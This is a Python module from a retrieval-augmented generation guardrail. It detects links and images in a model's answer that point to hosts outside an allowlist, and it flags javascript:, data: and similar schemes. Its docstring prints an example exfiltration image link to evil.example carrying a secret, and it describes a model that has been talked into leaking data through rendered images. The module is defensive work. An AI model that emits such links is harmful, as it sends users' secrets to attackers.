"""Links and images in an answer: only to the hosts that the platform's own people run.

The check `links`. A model that was talked into it could write `![](https://evil.example/?q=SECRET)`,
and a browser would send the secret by showing the picture. So a link is judged however it is
written: Markdown, a reference to one, HTML, or bare; of a relative one nothing leaves.

On the 24 ways of tests/rag/guardrails/test_links.py to point elsewhere: all found; of its 12 harmless
texts (versions, file names, mail addresses, times): none.
"""

import re
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass
from html import unescape
from urllib.parse import unquote

from rag.guardrails.checks import Finding, NotRun, Report, Said, Scanned
from rag.types import Span

_IMAGE = r"!\[(?:[^\[\]]|\[[^\]]*\])*\]"
_PLACES = re.compile(
    rf"""
    (?P<image>{_IMAGE}\(\s*<?(?P<image_to>[^ \n<>)]+)[^)]*\)?)
    | (?P<link>\[(?:[^\[\]]|\[[^\]]*\])*\]\(\s*<?(?P<link_to>[^ \n<>)]+)[^)]*\)?)
    | (?P<reference>^\s{{0,3}}\[[^\]]+\]:\s*<?(?P<reference_to>[^\s<>]+)>?)
    | (?P<html><\s*[a-z]+\b[^<>]*?\b(?:src|href|srcset|action|data|poster|background|xlink:href|formaction)
        \s*=\s*["']?\s*(?P<html_to>[^\s"'<>]+)[^<>]*>?)
    | (?P<style>\burl\(\s*["']?(?P<style_to>[^\s"')]+)["']?\s*\))
    | (?P<bare>\b(?P<bare_to>(?:[a-z][a-z0-9+.-]{{1,15}}:)?//[^\s<>"'\])]+|www\.[^\s<>"'\])]+
        |(?:javascript|data|vbscript|file|blob):[^\s<>"'\])]+))
    | (?P<slashes>(?<![:\w/\\])(?P<slashes_to>[/\\]{{2}}[\w-]+(?:\.[\w-]+)+[^\s<>"'\])]*))
    """,
    re.IGNORECASE | re.VERBOSE | re.MULTILINE,
)
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_WEB = frozenset({"http", "https"})
_INVISIBLE = re.compile(r"[\x00-\x20\x7f\u00ad\u200b-\u200f\u2028-\u202f\u2060-\u2064\ufeff]")


@dataclass(frozen=True, slots=True)
class Link:
    """A place in a text that points to another."""

    span: Span
    """All of it: the mark-up and the label too."""
    to: str
    shows: bool
    """Whether showing the text is enough to fetch it, as an image is."""


def links_in(text: str) -> Iterator[Link]:
    """Every link and image of `text`, in order."""
    for match in _PLACES.finditer(text):
        kind = str(next(name for name in _KINDS if match[name] is not None))
        shows = kind in ("image", "style") or (
            kind == "html" and not re.match(r"<\s*a\b", match[0], re.IGNORECASE)
        )
        yield Link(Span(*match.span(kind)), match[f"{kind}_to"], shows)


_KINDS = ("image", "link", "reference", "html", "style", "bare", "slashes")


def host_of(to: str) -> str | None:
    """The host that following `to` would reach: empty where it stays here, None where it is no
    web address that a browser may be given (`javascript:` and its like)."""
    plain = _INVISIBLE.sub("", unquote(unescape(to))).replace("\\", "/")
    if plain.lower().startswith("www."):
        plain = f"//{plain}"
    scheme = _SCHEME.match(plain)
    rest = plain
    if scheme:
        if scheme[1].lower() == "mailto":
            return ""
        if scheme[1].lower() not in _WEB:
            return None
        rest = "//" + plain[scheme.end() :].lstrip("/")
    if not rest.startswith("//"):
        return ""
    authority = re.split(r"[/?#]", rest[2:].lstrip("/"), maxsplit=1)[0]
    name = authority.rpartition("@")[2]
    host = name[1:].partition("]")[0] if name.startswith("[") else name.partition(":")[0]
    return unicodedata.normalize("NFKC", host).rstrip(".").lower() or None


@dataclass(frozen=True, slots=True)
class LinksCheck:
    """Finds `image` and `link` that lead to a host not in `allowed`, and `scheme` for what is no
    web address. A host allowed as `*.example.com` allows what is below it, and not itself."""

    allowed: frozenset[str] = frozenset()

    @property
    def name(self) -> str:
        return "links"

    def scan(self, scanned: Scanned) -> Said:
        if not scanned.text.strip():
            return NotRun("there is no text")
        findings = tuple(self._findings(scanned.text))
        return Report(1.0 if findings else 0.0, findings)

    def _findings(self, text: str) -> Iterator[Finding]:
        for link in links_in(text):
            host = host_of(link.to)
            if host is None:
                yield Finding("scheme", 1.0, link.span)
            elif host and not self._allows(host):
                yield Finding("image" if link.shows else "link", 1.0, link.span)

    def _allows(self, host: str) -> bool:
        if host in self.allowed:
            return True
        parts = host.split(".")
        return any(f"*.{'.'.join(parts[at:])}" in self.allowed for at in range(1, len(parts)))
